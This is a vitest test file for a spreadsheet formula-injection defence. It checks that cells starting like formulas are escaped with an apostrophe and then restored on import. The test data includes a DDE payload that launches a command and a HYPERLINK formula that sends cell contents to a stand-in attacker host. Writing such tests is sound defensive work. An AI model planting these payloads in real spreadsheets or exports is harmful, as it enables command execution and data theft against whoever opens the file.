import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { harmlessCell, textOfCell } from './formula-cells';
import { importQuestions } from './question-rows';

const FORMULAS = [
  '=1+1',
  '=cmd|" /C calc"!A0',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tx',
  '\rx',
  ' =1+1',
  '=HYPERLINK("http://evil.example.org?"&A1,"x")',
  '\u00A0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '--Dolphin\nShark',
  "'=1+1",
  "''=1+1",
];

describe('cells of a spreadsheet', () => {
  test.each(FORMULAS)('%j is written as text, and read as it was', (text) => {
    expect(harmlessCell(text)).toBe(`'${text}`);
    expect(textOfCell(harmlessCell(text))).toBe(text);
  });

  test.each(['Bram Stoker', "'tis the season", "'", '', '1+1', 'a=b', '"=1"', '2.5'])(
    '%j stays as it is',
    (text) => {
      expect(harmlessCell(text)).toBe(text);
      expect(textOfCell(text)).toBe(text);
    },
  );

  test('whatever is written is read as it was, and never starts like a formula', () => {
    const texts = fc.array(fc.constantFrom("'", '=', '-', ' ', '\t', '\r', '\n', 'a', '＝'), {
      maxLength: 6,
    });
    fc.assert(
      fc.property(texts, (parts) => {
        const text = parts.join('');
        expect(textOfCell(harmlessCell(text))).toBe(text);
        expect(harmlessCell(text)).not.toMatch(/^[\s]*[=+\-@＝＋－＠]/);
      }),
    );
  });

  test('[IMP-3] the import takes the apostrophe off again, and no other one', () => {
    const imported = importQuestions("\t'=1+1?\t\t'tis\t'--A\\nB\t\tsame\t\t1");
    expect(imported).toMatchObject({
      ok: true,
      value: [{ question: '=1+1?', correctAnswer: "'tis", correctMultiAnswer: '--A\nB' }],
    });
  });
});
